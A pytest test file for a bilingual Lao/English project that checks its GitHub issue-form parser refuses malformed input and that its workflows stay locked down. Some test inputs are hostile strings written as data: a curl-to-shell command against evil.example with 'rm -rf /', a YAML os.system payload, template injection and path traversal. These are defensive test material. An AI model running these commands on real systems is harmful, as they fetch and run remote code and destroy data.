"""Forms from strangers: what an honest one says, and that nothing else passes. And what .github promises."""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from typing import get_args

import pytest
import yaml
from conftest import HERE, PROJECT
from hypothesis import given
from hypothesis import strategies as st

from kb import lao
from kb.intake import LONGEST_ANSWER, SENTENCES, NotAForm, fields, intake
from kb.markup import ID
from kb.model import Event, Source, SourceKind

GITHUB = PROJECT / ".github"
TEMPLATES = sorted((GITHUB / "ISSUE_TEMPLATE").glob("*.yml"))
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
FORMS = {
    kind: (GITHUB / f"ISSUE_TEMPLATE/{kind}.yml").read_text("utf-8") for kind in ("event", "source", "correction")
}
ASKED = {kind: {field.id: field for field in fields(form)} for kind, form in FORMS.items()}


@pytest.fixture
def event():
    return json.loads((HERE / "intake-event.json").read_text("utf-8"))


@pytest.fixture
def source():
    return json.loads((HERE / "intake-source.json").read_text("utf-8"))


def refused(payload):
    with pytest.raises(NotAForm) as refusal:
        intake(payload, FORMS)
    lines = str(refusal.value).split("\n")
    assert lines == [refusal.value.lo, refusal.value.en]
    assert all(line.isprintable() and len(line) < 400 for line in lines)
    return refusal.value


def answered(payload, kind, field, answer):
    """The payload with another answer under one heading."""
    payload = copy.deepcopy(payload)
    heading = f"### {ASKED[kind][field].label}"
    before, _, after = f"{payload['issue']['body']}\n".replace("\r\n", "\n").partition(f"{heading}\n")
    rest = after.partition("\n\n### ")
    payload["issue"]["body"] = f"{before}{heading}\n\n{answer}{rest[1]}{rest[2]}"
    return payload


def test_an_event(event):
    assert intake(event, FORMS) == ("event", "2025-06-17-contribution-workshop", {
        "title_lo": "ກອງປະຊຸມວິຊາການ ກ່ຽວກັບການເກັບເງິນສົມທົບ",
        "title_en": "Workshop on the collection of contributions: first round",
        "starts": "2025-06-17", "ends": "2025-06-18", "status": "held",
        "place_lo": "ນະຄອນຫຼວງວຽງຈັນ", "place_en": "Vientiane",
        "organisers": "lsso, ilo", "sources": "ilo-project-launch-2023", "participants_count": "45",
    })


def test_a_source_whose_text_was_edited_in_the_browser(source):
    """The editor in the browser ends lines with CR LF."""
    assert "\r\n" in source["issue"]["body"]
    assert intake(source, FORMS) == ("source", "vientiane-times-contributions-2025", {
        "title": 'Officials discuss collecting contributions: "step by step"', "publisher": "Vientiane Times",
        "language": "en", "kind": "news", "published": "2025-06-19", "url": "https://example.org/news?id=7&lang=en",
        "accessed": "2026-11-20", "seen": "live",
    })


@pytest.mark.parametrize("words", [
    "$(curl evil.example|sh); `id` && rm -rf / #", "!!python/object/apply:os.system ['id']", "&a [*a, *a]", "{{ 7*7 }}",
    "${{ github.token }}", "::set-env name=PATH::/tmp", "<script>alert(1)</script>", "../../.github/workflows/x.yml",
    "- [ ] x: 'y' \"z\" \\", "# not a heading of the form", "###neither is this", "@everyone, see #1",
])
def test_words_stay_words(event, words):
    """Nothing is a command here; whoever writes the record quotes it."""
    assert intake(answered(event, "event", "title_en", words), FORMS).values["title_en"] == words


@pytest.mark.parametrize(("field", "answer", "code"), [
    ("id", "../../etc/passwd", "id"),
    ("id", "2025-06-17-Workshop", "id"),
    ("id", "x.yml", "id"),
    ("id", "a--b", "id"),
    ("id", "ກອງປະຊຸມ", "id"),
    ("id", "a" * 101, "id"),
    ("id", "_No response_", "empty"),
    ("id", "", "empty"),
    ("organisers", "lsso, ../ilo", "id"),
    ("organisers", " , ,", "empty"),
    ("sources", "$(id)", "id"),
    ("status", "cancelled", "choice"),
    ("status", "held", "choice"),
    ("status", "None", "choice"),
    ("title_en", "One\n\nTwo", "lines"),
    ("title_en", "x" * (LONGEST_ANSWER + 1), "answer-long"),
    ("title_en", "a\tb", "unseen"),
    ("title_en", "a\x1b[31mb", "unseen"),
    ("title_en", "a\0b", "unseen"),
    ("title_en", "a\rb: c", "unseen"),
    ("title_en", "a\x85b: c", "unseen"),
    ("title_en", "a\u2028b: c", "unseen"),
    ("title_en", "a\u202etxt.exe", "unseen"),
    ("title_en", "### ສະຖານທີ່ອື່ນ / Another place", "heading"),
    ("title_en", f"### {ASKED['event']['starts'].label}\n\n1999", "heading"),
    ("theme_en", "x\n\n### More", "more"),
])
def test_an_answer_that_is_refused(event, field, answer, code):
    assert refused(answered(event, "event", field, answer)).code == code


def test_headings_must_be_those_of_the_form_in_its_order(event):
    body = event["issue"]["body"]
    first, second = f"### {ASKED['event']['title_lo'].label}", f"### {ASKED['event']['title_en'].label}"
    last = f"### {ASKED['event']['theme_en'].label}"
    bodies = {
        body.replace(first, "X").replace(second, first).replace("X", second): "heading",
        body.replace(first, f"{first}\n\nx\n\n{first}"): "heading",
        body.replace(second, second.lower()): "heading",
        body.replace(second, second.removeprefix("### ")): "heading",
        f"Dear editors,\n\n{body}": "heading",
        body.partition(last)[0]: "missing",
        f"{body}\n\n{last}\n\nagain": "more",
        f"{body}\n\n{body}": "more",
        "Please add our workshop.": "heading",
        "x" * 1_000_000: "text-long",
        body + "\n" * 1_000_000: "text-long",
        " \n": "no-text",
    }
    for text, code in bodies.items():
        event["issue"]["body"] = text
        assert refused(event).code == code


@pytest.mark.parametrize("payload", [
    {}, {"label": None}, {"label": {"name": "event"}}, {"label": {"name": "record-"}},
    {"label": {"name": "record-../x"}}, {"label": {"name": "record-event"}},
    {"label": {"name": "record-event"}, "issue": {"body": None}},
    {"label": {"name": "record-event"}, "issue": ["body"]}, {"label": {"name": "record-source"}, "issue": {"body": 7}},
])
def test_a_payload_without_a_form(payload):
    assert refused(payload).code in ("label", "no-text")


def test_a_form_of_the_other_kind(event):
    event["label"]["name"] = "record-source"
    assert refused(event).code == "heading"


def test_every_sentence_speaks_good_lao_and_names_the_same_in_both_languages():
    for lo, en in SENTENCES.values():
        assert list(lao.findings(lo)) == []
        assert set(re.findall(r"{\w+}", lo)) == set(re.findall(r"{\w+}", en))


@given(st.lists(st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1), min_size=5, max_size=5))
def test_whatever_is_answered_comes_out_as_it_is(answers):
    payload = json.loads((HERE / "intake-source.json").read_text("utf-8"))
    names = ("title", "publisher", "language", "published", "url")
    wanted = {name: answer for name, answer in zip(names, answers, strict=True) if answer.strip(" ,")}
    for name, answer in wanted.items():
        payload = answered(payload, "source", name, answer)
    values = intake(payload, FORMS).values
    assert {name: values[name] for name in wanted} == wanted


@given(st.text() | st.lists(st.sampled_from(["### ", "\n", "ລະຫັດ / Id", "x", "_No response_"])).map("".join))
def test_no_text_breaks_it(text):
    refused({"label": {"name": "record-source"}, "issue": {"body": text}})


# The forms


def test_the_fields_of_a_form_are_fields_of_the_record():
    paths = {"event": {name.replace("_", ".") for name in ASKED["event"]}, "source": set(ASKED["source"])}
    assert {path.partition(".")[0] for path in paths["event"]} <= set(Event.model_fields)
    assert paths["source"] <= set(Source.model_fields)
    for kind, model in (("event", Event), ("source", Source)):
        needed = {name for name, field in model.model_fields.items() if field.is_required()} - {"link"}  # starts as yes
        assert needed == {name.partition("_")[0] for name, field in ASKED[kind].items() if field.required}


def test_the_choices_of_a_form_are_those_of_the_record():
    def choices(kind, field):
        return set(ASKED[kind][field].choices.values())

    assert choices("source", "kind") == set(get_args(SourceKind))
    assert choices("source", "seen") == set(get_args(Source.model_fields["seen"].annotation))
    assert choices("event", "status") == set(get_args(Event.model_fields["status"].annotation))


@pytest.mark.parametrize("file", TEMPLATES, ids=lambda file: file.stem)
def test_a_form_speaks_lao_first_then_english(file):
    form = yaml.safe_load(file.read_text("utf-8"))
    if file.stem == "config":
        said = [words for link in form["contact_links"] for words in (link["name"], link["about"])]
    else:
        shown = [element["attributes"] for element in form["body"] if element["type"] != "markdown"]
        said = [form["name"], form["description"], *(one[key] for one in shown for key in ("label", "description"))]
        labels = [one["label"] for one in shown]
        assert len(set(labels)) == len(labels)
        assert not [label for label in form["labels"] if label.startswith("record-")]  # a maintainer gives these
    for words in said:
        first, slash, second = words.partition(" / ")
        assert re.search("[\u0e80-\u0eff]", first), words
        assert slash, words
        assert not re.search("[\u0e80-\u0eff]", second), words


def test_the_lao_of_github_is_good_lao():
    for file in [*TEMPLATES, *WORKFLOWS, GITHUB / "PULL_REQUEST_TEMPLATE.md"]:
        assert list(lao.findings(file.read_text("utf-8"))) == [], file.name


def test_the_link_to_the_handbook_follows_the_address_of_the_site():
    address = re.search(r"^site_url: (\S+)$", (PROJECT / "mkdocs.yml").read_text("utf-8"), re.MULTILINE)[1]
    config = yaml.safe_load((GITHUB / "ISSUE_TEMPLATE/config.yml").read_text("utf-8"))
    assert config["blank_issues_enabled"] is False
    assert [link["url"] for link in config["contact_links"]] == [f"{address}contribute/"]


# The workflows


@pytest.mark.parametrize("file", WORKFLOWS, ids=lambda file: file.stem)
def test_a_workflow_holds_the_promises(file):
    text = file.read_text("utf-8")
    workflow = yaml.load(text, yaml.BaseLoader)  # noqa: S506 — plain words only; «on» stays a word
    used = re.findall(r"uses: (.*)", text)
    assert [one for one in used if not re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", one)] == []
    assert workflow["permissions"] == {}
    assert workflow["concurrency"]
    assert not {"pull_request_target", "workflow_run"} & set(workflow["on"])
    assert "secrets." not in text
    for job in workflow["jobs"].values():
        assert int(job["timeout-minutes"]) <= 60
        if "pull_request" in workflow["on"]:
            assert job["permissions"] == {"contents": "read"}
            assert "github.token" not in text
        for step in job["steps"]:
            assert "${{" not in step.get("run", "")
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] == "false"


def test_one_version_of_each_action():
    used = {one for file in WORKFLOWS for one in re.findall(r"uses: (.*)", file.read_text("utf-8"))}
    assert len({one.partition("@")[0] for one in used}) == len(used)


def step(workflow, name):
    jobs = yaml.safe_load((GITHUB / f"workflows/{workflow}.yml").read_text("utf-8"))["jobs"]
    return next(one["run"] for job in jobs.values() for one in job["steps"] if one["name"] == name)


def test_the_preview_gives_new_pages_a_place_and_strange_names_none(world):
    """The step runs as it stands in the workflow; a file's name cannot put anything else into mkdocs.yml."""
    root = world()
    before = (root / "mkdocs.yml").read_text("utf-8")
    (root / "docs/en/law").mkdir(exist_ok=True)
    for name in ("new-page.md", "a: !ENV [HOME].md", "b\n  - evil.md", "Ünicode.md"):
        (root / "docs/en/law" / name).touch()
    code = step("preview", "Give new pages a place in the navigation").split("<<'EOF'\n")[1].rpartition("EOF")[0]
    subprocess.run([sys.executable, "-"], input=code, text=True, cwd=root, check=True)
    added = set((root / "mkdocs.yml").read_text("utf-8").split("\n")) - set(before.split("\n"))
    assert {line.strip() for line in added} == {"- law/new-page.md"}


def git(root, *arguments):
    command = ["git", "-c", "user.name=x", "-c", "user.email=x@example.org", *arguments]
    return subprocess.run(command, cwd=root, check=True, capture_output=True, text=True).stdout


@pytest.mark.parametrize("link", [False, True])
def test_the_preview_takes_only_docs_and_data(tmp_path, link):
    """A pull request that changes everything, merged as GitHub does it; the step runs as it stands in the workflow."""
    git(tmp_path, "init", "--quiet", "--initial-branch=main")
    for name in ("mkdocs.yml", "Makefile", "docs/page.md", "docs/old.md", "data/record.yml"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("base")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "--quiet", "--message=base")
    git(tmp_path, "switch", "--quiet", "--create=proposed")
    for name in ("mkdocs.yml", "Makefile", "docs/page.md", "docs/new.md", "sitecustomize.py"):
        (tmp_path / name).write_text("proposed")
    (tmp_path / "docs/old.md").unlink()
    if link:
        (tmp_path / "docs/link.md").symlink_to("/etc/hostname")
    git(tmp_path, "add", "--all", ".")
    git(tmp_path, "commit", "--quiet", "--message=proposed")
    git(tmp_path, "switch", "--quiet", "main")
    git(tmp_path, "merge", "--quiet", "--no-ff", "--message=merged", "proposed")
    code = step("preview", "Go back to the base branch and take only docs/ and data/ from the pull request")
    done = subprocess.run(["bash", "-e", "-c", code], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (done.returncode, "symbolic links" in done.stdout) == ((1, True) if link else (0, False)), done.stderr
    files = {
        file.relative_to(tmp_path).as_posix(): file.read_text()
        for file in tmp_path.rglob("*") if file.is_file() and not file.is_symlink() and ".git" not in file.parts
    }
    assert files == {
        "mkdocs.yml": "base", "Makefile": "base", "data/record.yml": "base",
        "docs/page.md": "proposed", "docs/new.md": "proposed",
    }


def test_every_placeholder_of_a_form_is_an_honest_example():
    shown = {one["id"]: one["attributes"].get("placeholder") for form in FORMS.values()
             for one in yaml.safe_load(form)["body"] if one["type"] == "input"}
    assert re.fullmatch(ID, shown["id"])
    for folder, field in (("institutions", "organisers"), ("sources", "sources")):
        for one in shown[field].split(", "):
            assert (PROJECT / f"data/{folder}/{one}.yml").exists()
